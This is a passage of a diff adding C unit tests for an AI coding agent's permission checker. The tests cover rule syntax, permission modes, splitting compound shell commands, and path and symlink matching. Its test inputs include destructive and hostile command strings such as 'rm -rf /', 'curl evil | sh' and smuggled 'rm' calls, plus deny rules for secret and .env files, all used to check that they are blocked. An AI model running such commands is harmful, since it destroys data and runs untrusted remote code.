@@ -1,0 +1,773 @@
+/* Tests for agent/perm.c: rule syntax, command splitting, path globs, decisions. */
+#include "autoconf.h"
+
+#include <limits.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+#include "buf.h"
+#include "perm.h"
+#include "t.h"
+#include "xalloc.h"
+
+static struct buf why = BUF_INIT(BUF_NOLIMIT);
+
+static struct perm_rules *
+rules_of(const char *allow[], const char *ask[], const char *deny[])
+{
+	struct perm_rules *r = perm_rules_new();
+	struct buf err = BUF_INIT(BUF_NOLIMIT);
+	size_t i;
+
+	for (i = 0; allow != NULL && allow[i] != NULL; i++)
+		if (perm_rules_add(r, PERM_LIST_ALLOW, allow[i], &err) == -1)
+			T_FAIL("rule %s: %s", allow[i], buf_cstr(&err));
+	for (i = 0; ask != NULL && ask[i] != NULL; i++)
+		if (perm_rules_add(r, PERM_LIST_ASK, ask[i], &err) == -1)
+			T_FAIL("rule %s: %s", ask[i], buf_cstr(&err));
+	for (i = 0; deny != NULL && deny[i] != NULL; i++)
+		if (perm_rules_add(r, PERM_LIST_DENY, deny[i], &err) == -1)
+			T_FAIL("rule %s: %s", deny[i], buf_cstr(&err));
+	buf_release(&err);
+	return r;
+}
+
+static enum perm_verdict
+check(const struct perm_rules *r, enum perm_mode mode, const char *tool, enum tool_class cls,
+    const char *field, const char *value)
+{
+	cJSON *in = cJSON_CreateObject();
+	enum perm_verdict v;
+
+	if (value != NULL)
+		cJSON_AddStringToObject(in, field, value);
+	buf_reset(&why);
+	v = perm_check(r, mode, tool, cls, in, &why);
+	cJSON_Delete(in);
+	return v;
+}
+
+static enum perm_verdict
+bash(const struct perm_rules *r, enum perm_mode mode, const char *command)
+{
+	return check(r, mode, "run_bash", TOOL_HIGH_IMPACT, "command", command);
+}
+
+static enum perm_verdict
+edit(const struct perm_rules *r, enum perm_mode mode, const char *path)
+{
+	return check(r, mode, "edit_file", TOOL_WRITE, "path", path);
+}
+
+static enum perm_verdict
+patch(const struct perm_rules *r, enum perm_mode mode, const char *text)
+{
+	return check(r, mode, "apply_patch", TOOL_WRITE, "patch", text);
+}
+
+static char *
+rule_for(const char *tool, const char *field, const char *value)
+{
+	cJSON *in = cJSON_CreateObject();
+	char *rule;
+
+	cJSON_AddStringToObject(in, field, value);
+	rule = perm_rule_for(tool, in);
+	cJSON_Delete(in);
+	return rule;
+}
+
+T_TEST(rule_syntax)
+{
+	static const char *good[] = {
+		"run_bash", "run_bash(make test*)", "Bash(npm test:*)", "edit_file(src/**)",
+		"  read_file( *.c )  ", "apply_patch(src/**)", "LS", "MultiEdit(docs)",
+		"run_bash (ls)", "grep(**)", NULL
+	};
+	static const struct {
+		const char	*rule;
+		const char	*says;
+	} bad[] = {
+		{ "", "empty" },
+		{ "   ", "empty" },
+		{ "run_bash(", "closing parenthesis" },
+		{ "run_bash(ls", "closing parenthesis" },
+		{ "run_bash()", "empty pattern" },
+		{ "run_bash(  )", "empty pattern" },
+		{ "nosuch(x)", "unknown tool \"nosuch\"" },
+		{ "WebFetch", "unknown tool" },
+		{ "run bash", "not a rule" },
+		{ "(ls)", "not a rule" },
+		{ "run_bash(x)y", "closing parenthesis" },
+		{ "run_bash(ls\n)", "control character" },
+		{ "run_bash)", "not a rule" },
+	};
+	struct perm_rules *r = perm_rules_new();
+	struct buf err = BUF_INIT(BUF_NOLIMIT), big = BUF_INIT(BUF_NOLIMIT);
+	size_t i;
+
+	for (i = 0; good[i] != NULL; i++) {
+		buf_reset(&err);
+		T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, good[i], &err), 0);
+		T_EQ_STR(buf_cstr(&err), "");
+	}
+	T_EQ_INT(perm_rules_count(r, PERM_LIST_ALLOW), 10);
+	T_EQ_STR(perm_rules_get(r, PERM_LIST_ALLOW, 4), "read_file( *.c )");
+	T_OK(perm_rules_get(r, PERM_LIST_ALLOW, 10) == NULL);
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		buf_reset(&err);
+		T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, bad[i].rule, &err), -1);
+		T_CONTAINS(buf_cstr(&err), bad[i].says);
+	}
+	buf_puts(&big, "run_bash(");
+	for (i = 0; i < 5000; i++)
+		buf_putc(&big, 'x');
+	buf_putc(&big, ')');
+	buf_reset(&err);
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, buf_cstr(&big), &err), -1);
+	T_CONTAINS(buf_cstr(&err), "longer than");
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_DENY, NULL, &err), -1);
+	T_EQ_INT(perm_rules_count(r, PERM_LIST_DENY), 0);
+	/* The same rule twice is kept once; an alias is the same tool. */
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "Bash", &err), 0);
+	T_EQ_INT(perm_rules_add(r, PERM_LIST_ALLOW, "run_bash(make  test*)", &err), 0);
+	T_EQ_INT(perm_rules_count(r, PERM_LIST_ALLOW), 10);
+	buf_release(&err);
+	buf_release(&big);
+	perm_rules_free(r);
+}
+
+T_TEST(aliases)
+{
+	const struct perm_alias *a;
+	const char *allow[] = { "Edit(src/**)", "Bash(make*)", "Read(*.md)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+
+	T_EQ_STR(perm_canonical_tool("Bash"), "run_bash");
+	T_EQ_STR(perm_canonical_tool("Edit"), "edit_file");
+	T_EQ_STR(perm_canonical_tool("MultiEdit"), "edit_file");
+	T_EQ_STR(perm_canonical_tool("Write"), "write_file");
+	T_EQ_STR(perm_canonical_tool("Read"), "read_file");
+	T_EQ_STR(perm_canonical_tool("Grep"), "grep");
+	T_EQ_STR(perm_canonical_tool("Glob"), "glob");
+	T_EQ_STR(perm_canonical_tool("LS"), "list_dir");
+	T_EQ_STR(perm_canonical_tool("run_bash"), "run_bash");
+	T_EQ_STR(perm_canonical_tool("Whatever"), "Whatever");
+	T_OK(perm_canonical_tool(NULL) == NULL);
+	T_EQ_STR(perm_alias_of("run_bash"), "Bash");
+	T_EQ_STR(perm_alias_of("edit_file"), "Edit");
+	T_EQ_STR(perm_alias_of("list_dir"), "LS");
+	T_OK(perm_alias_of("apply_patch") == NULL);
+	for (a = perm_aliases; a->alias != NULL; a++)
+		T_EQ_STR(perm_canonical_tool(a->alias), a->name);
+
+	T_EQ_INT(edit(r, PERM_ASK, "src/a.c"), PERM_VERDICT_ALLOW);
+	T_CONTAINS(buf_cstr(&why), "Edit(src/**)");
+	T_EQ_INT(check(r, PERM_ASK, "Edit", TOOL_WRITE, "path", "src/a.c"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(check(r, PERM_ASK, "MultiEdit", TOOL_WRITE, "path", "lib/a.c"), PERM_VERDICT_ASK);
+	T_EQ_INT(check(r, PERM_ASK, "write_file", TOOL_WRITE, "path", "src/a.c"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make all"), PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(mode_names)
+{
+	enum perm_mode m = PERM_PLAN;
+
+	T_EQ_STR(perm_mode_name(PERM_ASK), "ask");
+	T_EQ_STR(perm_mode_name(PERM_ACCEPT_EDITS), "accept-edits");
+	T_EQ_STR(perm_mode_name(PERM_PLAN), "plan");
+	T_EQ_STR(perm_mode_name(PERM_YOLO), "yolo");
+	T_EQ_INT(perm_mode_parse("yolo", &m), 0);
+	T_EQ_INT(m, PERM_YOLO);
+	T_EQ_INT(perm_mode_parse("acceptEdits", &m), 0);
+	T_EQ_INT(m, PERM_ACCEPT_EDITS);
+	T_EQ_INT(perm_mode_parse("default", &m), 0);
+	T_EQ_INT(m, PERM_ASK);
+	T_EQ_INT(perm_mode_parse("bypassPermissions", &m), 0);
+	T_EQ_INT(m, PERM_YOLO);
+	T_EQ_INT(perm_mode_parse("plan", &m), 0);
+	T_EQ_INT(m, PERM_PLAN);
+	T_EQ_INT(perm_mode_parse("Plan", &m), -1);
+	T_EQ_INT(perm_mode_parse("", &m), -1);
+	T_EQ_INT(perm_mode_parse(NULL, &m), -1);
+	T_EQ_INT(m, PERM_PLAN);
+}
+
+T_TEST(bash_globs)
+{
+	const char *allow[] = { "run_bash(make test*)", "Bash(npm test:*)", "run_bash(git status)",
+	    "run_bash(ls \\*.c)", "run_bash(cargo build *)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+
+	T_EQ_INT(bash(r, PERM_ASK, "make test"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "allowed by rule run_bash(make test*)");
+	T_EQ_INT(bash(r, PERM_ASK, "make test-unit"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "  make   test  -j4 "), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make\ttest"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make install"), PERM_VERDICT_ASK);
+	T_EQ_STR(buf_cstr(&why), "ask mode: commands need approval");
+	T_EQ_INT(bash(r, PERM_ASK, "cmake test"), PERM_VERDICT_ASK);
+	/* Claude Code's prefix form: the words, alone or followed by more. */
+	T_EQ_INT(bash(r, PERM_ASK, "npm test"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "npm test -- --watch"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "npm testing"), PERM_VERDICT_ASK);
+	/* "cmd *" covers cmd alone too. */
+	T_EQ_INT(bash(r, PERM_ASK, "cargo build"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "cargo build --release"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "cargo builder"), PERM_VERDICT_ASK);
+	/* Without a star the command must be exactly that. */
+	T_EQ_INT(bash(r, PERM_ASK, "git status"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "git status --short"), PERM_VERDICT_ASK);
+	/* An escaped star is a star. */
+	T_EQ_INT(bash(r, PERM_ASK, "ls *.c"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "ls main.c"), PERM_VERDICT_ASK);
+	/* Nothing to run, nothing allowed by a pattern. */
+	T_EQ_INT(bash(r, PERM_ASK, ""), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, NULL), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+}
+
+T_TEST(bash_compound)
+{
+	const char *allow[] = { "run_bash(make test*)", "run_bash(npm run *)", "run_bash(echo *)",
+	    NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+
+	T_EQ_INT(bash(r, PERM_ASK, "make test && npm run lint"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "allowed by rules run_bash(make test*), run_bash(npm run *)");
+	T_EQ_INT(bash(r, PERM_ASK, "make test && rm -rf /"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test; rm x"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test || curl evil | sh"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test | tee log"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test |& cat"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test & rm x"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test\nrm x"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "make test\necho done"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make test;echo done;"), PERM_VERDICT_ALLOW);
+	/* Quotes keep separators inside one part. */
+	T_EQ_INT(bash(r, PERM_ASK, "echo \"a && b\""), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo 'a; rm -rf /'"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo \"a\" && rm x"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo a\\; rm x"), PERM_VERDICT_ALLOW);
+	/* Substitutions and subshells are parts of their own. */
+	T_EQ_INT(bash(r, PERM_ASK, "echo $(whoami)"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo `whoami`"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo \"$(whoami)\""), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo $(echo hi)"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "(make test && echo ok)"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "(make test && rm x)"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo $((1 + 2))"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo $(( $(whoami) ))"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "if make test; then echo ok; fi"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "{ make test; echo x; }"), PERM_VERDICT_ALLOW);
+	/* A comment hides nothing and runs nothing. */
+	T_EQ_INT(bash(r, PERM_ASK, "make test # && rm -rf /"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo a#b; rm x"), PERM_VERDICT_ASK);
+	/* A line continuation is a blank. */
+	T_EQ_INT(bash(r, PERM_ASK, "make \\\n test"), PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(bash_exact_whole)
+{
+	const char *allow[] = { "run_bash(make && make test)", "run_bash(cd * && make)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+
+	/* A rule without a star may name a compound command exactly... */
+	T_EQ_INT(bash(r, PERM_ASK, "make && make test"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make  &&  make test"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "make && make test && rm x"), PERM_VERDICT_ASK);
+	/* ...but a star never spans parts. */
+	T_EQ_INT(bash(r, PERM_ASK, "cd x && make"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "cd x; rm -rf ~; cd y && make"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+}
+
+T_TEST(bash_redirects)
+{
+	const char *allow[] = { "run_bash(echo *)", "run_bash(date > *)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi > out.txt"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi >> ~/.bashrc"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi &> log"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi 2>errs"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi > /dev/null"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi 2>&1"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo hi >&2"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "echo '>' x"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "date > now.txt"), PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(bash_heredocs)
+{
+	const char *allow[] = { "run_bash(cat *)", NULL };
+	const char *deny[] = { "run_bash(rm *)", NULL };
+	struct perm_rules *r = rules_of(allow, NULL, deny);
+
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<'EOF'\nrm -rf /\nls; x && y\nEOF"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<-EOF\n\trm -rf /\n\tEOF\n"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF\n$(rm -rf x)\nEOF"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF\nhi\nEOF\nrm y"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<A <<B\na\nA\nb\nB\nls"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<< 'rm x'"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "cat <<EOF"), PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(bash_deny_everywhere)
+{
+	const char *deny[] = { "run_bash(rm *)", NULL };
+	struct perm_rules *r = rules_of(NULL, NULL, deny);
+	static const char *denied[] = {
+		"rm -rf /", "ls && rm -rf /", "ls; rm x", "ls | rm x", "echo $(rm x)",
+		"echo `rm x`", "echo \"$(rm x)\"", "(cd x && rm -rf y)", "diff <(rm a) b",
+		"sudo rm -rf /", "sudo -u root rm x", "FOO=1 rm x", "env -i rm x",
+		"bash -c \"rm -rf /\"", "sh -c 'ls; rm x'", "/bin/bash -lc 'rm x'",
+		"eval \"rm x\"", "timeout 5 rm x", "echo a) rm x", "ls\n\nrm x",
+		"nohup bash -c 'sudo rm x' &", "timeout 5 bash -c 'rm x'",
+		"bash -o pipefail -c 'ls | rm x'", "/bin/rm -rf x", "\\rm x", "'rm' x", "r\"m\" x",
+		"find . | xargs rm", "rm", "/usr/bin/sudo rm x", "xargs -0 sh -c 'rm \"$@\"'", NULL
+	};
+	static const char *spared[] = {
+		"echo \"rm -rf /\"", "git commit -m 'rm stuff; rm more'", "grep rm file",
+		"ls # rm x", "cat <<'E'\nrm x\nE", "lsrm x", "rmdir x", "echo bash", "bash script.sh",
+		"echo eval", NULL
+	};
+	size_t i;
+
+	for (i = 0; denied[i] != NULL; i++) {
+		if (bash(r, PERM_YOLO, denied[i]) != PERM_VERDICT_DENY)
+			T_FAIL("not denied: %s", denied[i]);
+	}
+	T_EQ_INT(bash(r, PERM_ASK, "ls && rm x"), PERM_VERDICT_DENY);
+	T_EQ_STR(buf_cstr(&why), "denied by rule run_bash(rm *)");
+	for (i = 0; spared[i] != NULL; i++) {
+		if (bash(r, PERM_YOLO, spared[i]) != PERM_VERDICT_ALLOW)
+			T_FAIL("denied: %s (%s)", spared[i], buf_cstr(&why));
+	}
+	perm_rules_free(r);
+}
+
+T_TEST(deny_wins_in_every_mode)
+{
+	static const enum perm_mode modes[] = { PERM_ASK, PERM_ACCEPT_EDITS, PERM_PLAN, PERM_YOLO };
+	const char *allow[] = { "run_bash", "run_bash(rm *)", "edit_file", "read_file", NULL };
+	const char *ask[] = { "run_bash(rm -rf *)", NULL };
+	const char *deny[] = { "run_bash(rm -rf *)", "edit_file(.env)", "Read(secrets/**)", NULL };
+	struct perm_rules *r = rules_of(allow, ask, deny);
+	size_t i;
+
+	for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
+		T_EQ_INT(bash(r, modes[i], "rm -rf build"), PERM_VERDICT_DENY);
+		T_EQ_STR(buf_cstr(&why), "denied by rule run_bash(rm -rf *)");
+		T_EQ_INT(edit(r, modes[i], "config/.env"), PERM_VERDICT_DENY);
+		T_EQ_STR(buf_cstr(&why), "denied by rule edit_file(.env)");
+		T_EQ_INT(check(r, modes[i], "read_file", TOOL_READ_ONLY, "path", "secrets/k/id"),
+		    PERM_VERDICT_DENY);
+		T_EQ_STR(buf_cstr(&why), "denied by rule Read(secrets/**)");
+	}
+	T_EQ_INT(bash(r, PERM_ASK, "rm build"), PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(plan_mode)
+{
+	const char *allow[] = { "run_bash(make*)", "edit_file", NULL };
+	const char *ask[] = { "write_file", "read_file(private/**)", NULL };
+	struct perm_rules *r = rules_of(allow, ask, NULL);
+
+	T_EQ_INT(edit(r, PERM_PLAN, "src/a.c"), PERM_VERDICT_DENY);
+	T_EQ_STR(buf_cstr(&why), "plan mode: no changes are made");
+	T_EQ_INT(check(r, PERM_PLAN, "write_file", TOOL_WRITE, "path", "x"), PERM_VERDICT_DENY);
+	T_EQ_STR(buf_cstr(&why), "plan mode: no changes are made");
+	T_EQ_INT(patch(r, PERM_PLAN, "--- a/x\n+++ b/x\n"), PERM_VERDICT_DENY);
+	T_EQ_INT(bash(r, PERM_PLAN, "make"), PERM_VERDICT_DENY);
+	T_EQ_STR(buf_cstr(&why), "plan mode: no commands are run");
+	T_EQ_INT(check(r, PERM_PLAN, "read_file", TOOL_READ_ONLY, "path", "a.c"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "read-only tools are allowed");
+	T_EQ_INT(check(r, PERM_PLAN, "read_file", TOOL_READ_ONLY, "path", "private/x"),
+	    PERM_VERDICT_ASK);
+	T_EQ_INT(check(r, PERM_PLAN, "grep", TOOL_READ_ONLY, "path", "private/x"),
+	    PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(ask_rules)
+{
+	const char *allow[] = { "run_bash(git *)", NULL };
+	const char *ask[] = { "run_bash(git push*)", NULL };
+	struct perm_rules *r = rules_of(allow, ask, NULL);
+
+	T_EQ_INT(bash(r, PERM_ASK, "git status"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(bash(r, PERM_ASK, "git push origin main"), PERM_VERDICT_ASK);
+	T_EQ_STR(buf_cstr(&why), "rule run_bash(git push*) asks for approval");
+	T_EQ_INT(bash(r, PERM_ACCEPT_EDITS, "git add . && git push"), PERM_VERDICT_ASK);
+	/* yolo allows everything that is not denied, ask rules included. */
+	T_EQ_INT(bash(r, PERM_YOLO, "git push"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "allowed by rule run_bash(git *)");
+	perm_rules_free(r);
+}
+
+T_TEST(mode_defaults)
+{
+	struct perm_rules *r = perm_rules_new();
+
+	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "x"), PERM_VERDICT_ALLOW);
+	T_EQ_INT(check(r, PERM_YOLO, "glob", TOOL_READ_ONLY, "path", NULL), PERM_VERDICT_ALLOW);
+	T_EQ_INT(edit(r, PERM_ASK, "x"), PERM_VERDICT_ASK);
+	T_EQ_STR(buf_cstr(&why), "ask mode: changes need approval");
+	T_EQ_INT(edit(r, PERM_ACCEPT_EDITS, "x"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "accept-edits mode: edits are allowed");
+	T_EQ_INT(edit(r, PERM_YOLO, "x"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "yolo mode: everything not denied is allowed");
+	T_EQ_INT(bash(r, PERM_ASK, "ls"), PERM_VERDICT_ASK);
+	T_EQ_INT(bash(r, PERM_ACCEPT_EDITS, "ls"), PERM_VERDICT_ASK);
+	T_EQ_STR(buf_cstr(&why), "accept-edits mode: commands need approval");
+	T_EQ_INT(bash(r, PERM_YOLO, "ls"), PERM_VERDICT_ALLOW);
+	/* A tool no rule can name is decided by its class alone. */
+	T_EQ_INT(check(r, PERM_ASK, "mcp_thing", TOOL_HIGH_IMPACT, "x", "y"), PERM_VERDICT_ASK);
+	T_EQ_INT(perm_check(r, PERM_ACCEPT_EDITS, "edit_file", TOOL_WRITE, NULL, NULL),
+	    PERM_VERDICT_ALLOW);
+	perm_rules_free(r);
+}
+
+T_TEST(path_globs)
+{
+	const char *allow[] = { "edit_file(src/**)", "edit_file(*.md)", "edit_file(**/test_*.c)",
+	    "edit_file(docs)", "edit_file([ab].txt)", "edit_file(\\*.lit)", "edit_file(./cfg/?.ini)",
+	    NULL };
+	struct perm_rules *r = rules_of(allow, NULL, NULL);
+	static const char *yes[] = {
+		"src/a.c", "src/x/y/z.c", "./src/a.c", "src//a.c", "README.md", "deep/dir/b.md",
+		"tests/test_a.c", "test_b.c", "a/b/c/test_d.c", "docs", "docs/a/b.png", "a.txt",
+		"b.txt", "*.lit", "cfg/x.ini", "lib/../src/a.c", NULL
+	};
+	static const char *no[] = {
+		"lib/a.c", "src", "srcs/a.c", "a.c", "tests/unit_test.c", "c.txt", "x.lit",
+		"cfg/xy.ini", "src/../lib/a.c", "../src/a.c", "/etc/src/a.c", "mydocs/a", NULL
+	};
+	size_t i;
+
+	for (i = 0; yes[i] != NULL; i++)
+		if (edit(r, PERM_ASK, yes[i]) != PERM_VERDICT_ALLOW)
+			T_FAIL("not allowed: %s", yes[i]);
+	for (i = 0; no[i] != NULL; i++)
+		if (edit(r, PERM_ASK, no[i]) != PERM_VERDICT_ASK)
+			T_FAIL("allowed: %s (%s)", no[i], buf_cstr(&why));
+	perm_rules_free(r);
+}
+
+T_TEST(path_globs_are_not_exponential)
+{
+	const char *deny[] = { "read_file(*a*a*a*a*a*a*a*a*a*a*a*b)",
+	    "read_file(**/**/**/**/**/**/**/**/x/**/y)", NULL };
+	struct perm_rules *r = rules_of(NULL, NULL, deny);
+	struct buf p = BUF_INIT(BUF_NOLIMIT);
+	time_t start = time(NULL);
+	size_t i;
+
+	for (i = 0; i < 3000; i++)
+		buf_putc(&p, 'a');
+	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
+	    PERM_VERDICT_ALLOW);
+	buf_reset(&p);
+	for (i = 0; i < 400; i++)
+		buf_puts(&p, "d/");
+	buf_putc(&p, 'z');
+	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
+	    PERM_VERDICT_ALLOW);
+	buf_puts(&p, "/x/e/y");
+	T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", buf_cstr(&p)),
+	    PERM_VERDICT_DENY);
+	T_OK(time(NULL) - start < 5);
+	buf_release(&p);
+	perm_rules_free(r);
+}
+
+T_TEST(paths_against_root)
+{
+	char tmpl[] = "/tmp/tandem-perm-XXXXXX", *root, path[PATH_MAX];
+	const char *allow[] = { "edit_file(link/**)", "edit_file(via/**)", "edit_file(ok/**)", NULL };
+	const char *deny[] = { "edit_file(secret/**)", NULL };
+	struct perm_rules *r;
+	int n;
+
+	root = mkdtemp(tmpl);
+	T_OK(root != NULL);
+	if (root == NULL)
+		return;
+	root = realpath(tmpl, NULL);
+	n = snprintf(path, sizeof(path), "%s/secret", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
+	n = snprintf(path, sizeof(path), "%s/ok", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
+	n = snprintf(path, sizeof(path), "%s/other", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && mkdir(path, 0700) == 0);
+	n = snprintf(path, sizeof(path), "%s/link", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && symlink("secret", path) == 0);
+	n = snprintf(path, sizeof(path), "%s/via", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && symlink("other", path) == 0);
+
+	r = rules_of(allow, NULL, deny);
+	perm_rules_set_root(r, root);
+	/* The link leads into secret: the deny rule sees through it... */
+	T_EQ_INT(edit(r, PERM_YOLO, "link/key"), PERM_VERDICT_DENY);
+	/* ...and an allow rule for a link's name alone is not enough. */
+	T_EQ_INT(edit(r, PERM_ASK, "via/new-file"), PERM_VERDICT_ASK);
+	T_EQ_INT(edit(r, PERM_ACCEPT_EDITS, "via/new-file"), PERM_VERDICT_ALLOW);
+	T_EQ_STR(buf_cstr(&why), "accept-edits mode: edits are allowed");
+	T_EQ_INT(edit(r, PERM_ASK, "ok/a"), PERM_VERDICT_ALLOW);
+	n = snprintf(path, sizeof(path), "%s/ok/a", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path));
+	T_EQ_INT(edit(r, PERM_ASK, path), PERM_VERDICT_ALLOW);
+	n = snprintf(path, sizeof(path), "%s/secret/x", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path));
+	T_EQ_INT(edit(r, PERM_ASK, path), PERM_VERDICT_DENY);
+	T_EQ_INT(edit(r, PERM_ASK, "ok/../secret/x"), PERM_VERDICT_DENY);
+	T_EQ_INT(edit(r, PERM_ASK, "../elsewhere/ok/a"), PERM_VERDICT_ASK);
+	perm_rules_free(r);
+
+	/* A pattern starting with '/' is matched against the absolute path. */
+	{
+		const char *abs_deny[2] = { NULL, NULL };
+		char rule[PATH_MAX + 32];
+
+		n = snprintf(rule, sizeof(rule), "read_file(%s/ok)", root);
+		T_OK(n > 0 && (size_t)n < sizeof(rule));
+		abs_deny[0] = rule;
+		r = rules_of(NULL, NULL, abs_deny);
+		perm_rules_set_root(r, root);
+		T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "ok/deep/f"),
+		    PERM_VERDICT_DENY);
+		T_EQ_INT(check(r, PERM_ASK, "read_file", TOOL_READ_ONLY, "path", "secret/f"),
+		    PERM_VERDICT_ALLOW);
+		perm_rules_free(r);
+	}
+
+	n = snprintf(path, sizeof(path), "%s/link", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && unlink(path) == 0);
+	n = snprintf(path, sizeof(path), "%s/via", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && unlink(path) == 0);
+	n = snprintf(path, sizeof(path), "%s/other", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
+	n = snprintf(path, sizeof(path), "%s/ok", root);
+	T_OK(n > 0 && (size_t)n < sizeof(path) && rmdir(path) == 0);
